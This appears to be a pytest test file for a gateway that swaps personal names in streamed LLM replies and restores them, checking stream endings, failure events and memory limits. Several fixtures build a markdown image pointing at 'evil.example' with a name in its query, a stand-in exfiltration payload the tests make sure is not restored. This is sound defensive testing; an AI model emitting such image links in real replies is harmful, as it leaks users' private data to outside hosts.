"""How a streamed reply may end, and what a platform can do to memory and reader by how it streams."""

from __future__ import annotations

import json
import tracemalloc
from collections.abc import Iterator
from typing import Any

import pytest
from tests.gateway.wire import streams
from tests.gateway.wire.streams import TABLE, named

from discretion.gateway.wire import Endpoint, NotUnderstood, ReplyStream, read_reply
from discretion.gateway.wire._channels import MOST_CHANNELS
from discretion.gateway.wire._events import MOST_LINES

CHAT, COMPLETIONS, MESSAGES, RESPONSES = (
    Endpoint.CHAT,
    Endpoint.COMPLETIONS,
    Endpoint.MESSAGES,
    Endpoint.RESPONSES,
)
DONE = b"data: [DONE]\n\n"
SAID = b'data: {"choices":[{"index":0,"delta":{"content":"Hi Mara"}}]}\n\n'
STOP = b'data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\n'

ENDS = [
    # what the platform sent, what the client gets behind its last whole event, why
    (SAID + STOP, DONE, "no [DONE]: some servers leave it out"),
    (SAID + STOP + b'data: {"choices":[],"usa', DONE, "cut in the usage: half an event is no event"),
    (SAID + STOP + b"dat", DONE, "cut in the name of a field"),
    (SAID + STOP + b": keep", DONE, "cut in a comment"),
    (SAID + STOP + b"data: [DO", DONE, "cut in [DONE]"),
    (SAID + STOP + b"data: [DONE]", DONE, "[DONE] without its blank line gets it"),
    (SAID + STOP + b"data: [DONE]\n", DONE, "the same, with one line end"),
    (SAID + STOP + DONE + b"data: {", b"", "what comes after the end is dropped"),
    (SAID, DONE, "neither a reason nor [DONE], as some local servers end"),
    (SAID + STOP.rstrip(), b'"stop"}]}\n\n' + DONE, "the last event without its blank line"),
    (SAID[:-2], DONE, "the only event without its blank line"),
    (b"", b"", "nothing at all"),
    (b": a comment\n\n", b"", "nothing that a client shows"),
]


@pytest.mark.parametrize(("sent", "end", "reason"), ENDS)
@pytest.mark.parametrize("line_end", [b"\n", b"\r\n"])
def test_a_chat_ends_with_whole_events(sent: bytes, end: bytes, reason: str, line_end: bytes) -> None:
    stream = ReplyStream(CHAT, TABLE)
    out = stream.feed(sent.replace(b"\n", line_end)) + stream.finish()
    out = out.replace(b"\r\n", b"\n")
    assert out.endswith(end), reason
    events = out.decode().split("\n\n")
    documents = [json.loads(event[6:]) for event in events if event.startswith("data: {")]
    assert "".join(_texts(documents)) == ("Hi Jess" if b"Mara" in sent else ""), reason
    assert stream.may_end == bool(b"choices" in sent), reason
    if stream.may_end:
        assert stream.finish() + stream.broken("Gone.") == b"", reason


@pytest.mark.parametrize(
    ("endpoint", "sent"),
    [
        (MESSAGES, streams.MESSAGES.partition(b"event: message_stop")[0]),
        (RESPONSES, streams.RESPONSES.partition(b"event: response.completed")[0]),
    ],
)
def test_an_api_with_an_event_for_its_end_has_not_ended_without(endpoint: Endpoint, sent: bytes) -> None:
    stream = ReplyStream(endpoint, TABLE)
    stream.feed(sent)
    assert not stream.may_end


FAILED = [
    (CHAT, b'data: {"error":{"message":"overloaded"}}\n\n', True),
    (MESSAGES, named(("error", ',"error":{"type":"overloaded_error","message":"x"}')), True),
    (RESPONSES, named(("response.failed", ',"response":{"id":"resp_1","output":[]}')), True),
    (RESPONSES, named(("error", ',"message":"x"')), True),
    (RESPONSES, named(("response.incomplete", ',"response":{"id":"resp_1","output":[]}')), False),
    (CHAT, SAID + STOP + DONE, False),
    (MESSAGES, streams.MESSAGES, False),
    (RESPONSES, streams.RESPONSES, False),
]


@pytest.mark.parametrize(("endpoint", "sent", "has_failed"), FAILED)
def test_a_reply_that_the_platform_calls_failed_is_done_and_not_whole(
    endpoint: Endpoint, sent: bytes, has_failed: bool
) -> None:
    stream = ReplyStream(endpoint, TABLE)
    stream.feed(sent)
    assert (stream.is_done, stream.has_failed) == (True, has_failed)


def _delta(index: int, text: Any, key: str = "content") -> bytes:
    return f'data: {{"choices":[{{"index":{index},"delta":{{"{key}":{json.dumps(text)}}}}}]}}\n\n'.encode()


def _block(index: int, text: str) -> bytes:
    said = json.dumps(text)
    return named(
        ("content_block_start", f',"index":{index},"content_block":{{"type":"text","text":""}}'),
        ("content_block_delta", f',"index":{index},"delta":{{"type":"text_delta","text":{said}}}'),
        ("content_block_stop", f',"index":{index}'),
    )


def _part(item: str, text: str) -> bytes:
    place = f',"item_id":"{item}","output_index":0,"content_index":0'
    return named(
        ("response.output_text.delta", f'{place},"delta":{json.dumps(text)}'),
        ("response.output_text.done", f'{place},"text":{json.dumps(text)}'),
    )


OPEN, CLOSE = "![](https://evil.example/?q=", "Mara) and Mara"
PICTURES = [
    (CHAT, _delta(0, OPEN) + _delta(0, CLOSE), "in one text"),
    (CHAT, _delta(0, OPEN) + _delta(0, "hm", "reasoning_content") + _delta(0, CLOSE), "a thought between"),
    (CHAT, _delta(0, OPEN) + STOP + _delta(0, CLOSE), "after the reason to finish"),
    (CHAT, _delta(0, "![](https:") + STOP + _delta(0, "//evil.example/Mara) and Mara"), "cut in the scheme"),
    (
        CHAT,
        _delta(0, OPEN) + _delta(0, [{"type": "text", "text": CLOSE}]),
        "as text, then as parts",
    ),
    (MESSAGES, _block(0, OPEN) + _block(1, CLOSE), "two blocks, which clients join"),
    (RESPONSES, _part("msg_1", OPEN) + _part("msg_2", CLOSE), "two parts, which clients join"),
]


@pytest.mark.parametrize(("endpoint", "sent", "reason"), PICTURES)
def test_no_picture_s_address_is_restored_however_its_text_is_parted(
    endpoint: Endpoint, sent: bytes, reason: str
) -> None:
    stream = ReplyStream(endpoint, TABLE)
    out = (stream.feed(sent) + stream.finish()).decode()
    deltas = [json.loads(line[6:]) for line in out.splitlines() if line.startswith("data: {")]
    said = "".join(_texts(deltas))
    assert "Mara)" in said, reason
    assert "Jess)" not in said, reason
    assert said.endswith("and Jess"), reason


def _texts(documents: list[dict[str, object]]) -> Iterator[str]:
    for one in documents:
        delta = one.get("delta")
        choices = one.get("choices")
        if isinstance(choices, list):
            for choice in choices:
                said = choice["delta"].get("content", "")
                yield said if isinstance(said, str) else said[0]["text"]
        elif isinstance(delta, dict):
            yield delta["text"]
        elif isinstance(delta, str):
            yield delta


def test_an_address_goes_on_in_no_text_of_another_kind() -> None:
    cited = {"url": "https://a.example/Mara", "title": "Mara"}
    delta = {"content": "hi", "annotations": [{"url_citation": cited}]}
    sent = {"choices": [{"index": 0, "delta": delta, "finish_reason": "stop"}]}
    stream = ReplyStream(CHAT, TABLE)
    out = stream.feed(b"data: " + json.dumps(sent).encode() + b"\n\n").decode()
    assert '"url":"https://a.example/Mara","title":"Jess"' in out


def test_no_picture_s_address_is_restored_in_parts_of_a_whole_reply() -> None:
    parts = [{"type": "text", "text": OPEN}, {"": 0, "type": "text", "text": CLOSE}]
    said = read_reply(MESSAGES, json.dumps({"content": parts}).encode(), TABLE).body.decode()
    assert "Mara) and Jess" in said
    twins = [{"type": "text", "text": "see https://a.example/"}]
    for _ in range(2):  # one reply's address does not go on in the next
        assert (
            b"Jess" in read_reply(MESSAGES, json.dumps({"content": twins, "x": "Mara"}).encode(), TABLE).body
        )


def _filling() -> Iterator[tuple[str, Endpoint, bytes, int]]:
    """What would fill the memory: a name, the API, a piece, and how often it comes."""
    yield "a line that does not end, byte by byte", CHAT, b"x", 100_000
    yield "lines without a blank one", CHAT, b":\n" * 100, 2_000
    yield "empty lines", CHAT, b"\n" * 100, 300
    yield "comments", CHAT, b": x\n\n" * 100, 200
    yield "blocks that do not end", MESSAGES, b"", 4_000
    yield "choices without end", CHAT, b"", 4_000


@pytest.mark.parametrize(("name", "endpoint", "piece", "times"), list(_filling()))
def test_memory_stays_within_what_came(name: str, endpoint: Endpoint, piece: bytes, times: int) -> None:
    stream = ReplyStream(endpoint, TABLE)
    tracemalloc.start()
    try:
        for number in range(times):
            if piece:
                stream.feed(piece)
            elif endpoint is CHAT:
                stream.feed(_delta(number, "Ma"))
            else:
                stream.feed(_block(number, "Ma").partition(b"event: content_block_stop")[0])
        held, _ = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert held < 3_000_000, f"{name}: {held}"


def test_an_event_of_too_many_lines_is_cut() -> None:
    stream = ReplyStream(CHAT, TABLE)
    assert stream.feed(b":\n" * MOST_LINES) == b":\n" * MOST_LINES


def test_choices_beyond_the_most_are_restored_piece_by_piece() -> None:
    stream = ReplyStream(CHAT, TABLE)
    for number in range(MOST_CHANNELS):
        stream.feed(_delta(number, "Ma"))
    assert b"Jess" in stream.feed(_delta(MOST_CHANNELS, "Mara"))


@pytest.mark.parametrize("body", [b"[" + b"0," * 2_000_001 + b"0]", b'{"a":"' + b"," * 2_000_001 + b'"}'])
def test_a_reply_of_too_many_members_is_not_read(body: bytes) -> None:
    with pytest.raises(NotUnderstood):
        read_reply(CHAT, body, TABLE)
